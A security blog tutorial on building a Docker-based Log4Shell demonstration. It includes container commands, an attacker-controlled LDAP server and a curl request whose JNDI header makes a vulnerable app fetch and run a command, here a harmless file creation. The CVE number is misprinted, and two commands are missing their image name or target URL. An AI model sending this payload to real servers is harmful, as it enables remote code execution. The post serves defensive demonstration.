top of page
  • FC

How to Build Your Own Log4Shell Demo (CVE-2021-4428)

Our simple explainer of the Log4Shell (CVE-2021-4428) exploit has quickly become our most popular blog post. People really resonated with the cup of coffee analogy and we've had great feedback on the quick demonstration video.

We've had many requests on how to build your own Log4Shell demo to show internal teams. If you watch our video, it's clear you need two things: a vulnerable application and a working LDAP server under your control to deliver the exploit.

The common way to do this is to set up a demonstration in a virtual machine, however these take up huge resources and are hard to share, so let's use Docker for both systems.

The first half - the vulnerable application - is already available as a docker container.

The second half - the LDAP server - isn't, so we spent some time this morning creating one just for you! The reason we have created this container is that the original exploit has been removed and is no longer available for demonstrating the vulnerability.

For your demonstration to work you obviously need Docker running on your system. If you don't already have it, please install that now or the rest won't work. The second thing we need to do is set up a separate Docker network so the two containers can see and talk to each other. I suggest that you have three terminal screens open, one for the Application, one for the LDAP server and one for running other commands, we shall refer to this as the Command Terminal.

Copy and Paste Instructions for the Entire Demo

First, let's set up the Docker network for the demo, in the Command Terminal:

docker network create log4jnetwork

Now, let's grab and run the vulnerable application in the Application Terminal:

docker run --rm --network log4jnetwork --name vulnerable-app -p 8080:8080

Next, run the 'ls' command in theCommand Terminal on the /tmp directory of the vulnerable app, this will show us the 3 files that are in there:

docker exec vulnerable-app ls /tmp

We now need an LDAP server that is under our control and listens on two ports: 1389 and 8888. This command will grab our version of the exploit running on a alpine linux based image with JavaJRE built in, run this in the LDAP Terminal:

docker run --rm --network log4jnetwork --name log4jldapserver -p 1389:1389 -p 8888:8888 cygenta/log4jldap

Finally, we get to trigger the exploit using the command below. This will be sent to the vulnerable app which will then perform the lookup and download the exploit from the LDAP server. The exploit in this case is to create a file in the /tmp folder, so run this in the Command Terminal or a separate new terminal to simulate another machine:

curl -H 'X-Api-Version: ${jndi:ldap://log4jldapserver:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9DeWdlbnRhRGVtbw==}'

And we obviously need to finish by looking back on the vulnerable app server to see if we managed to create the file in the /tmp folder, again run in the Command Terminal:

docker exec vulnerable-app ls /tmp

Watch my quick video walkthrough of the above steps:

One thing to check if you have any issues: please make sure that the names of containers and networks match.

In case you missed it, our originalexploit demo video is here:

We wouldlike to thank:

and for user testing.If you've found this blog post helpful, you may want to subscribe to our mailing list. We'd be delighted to keep in touch!Related Posts

See All
bottom of page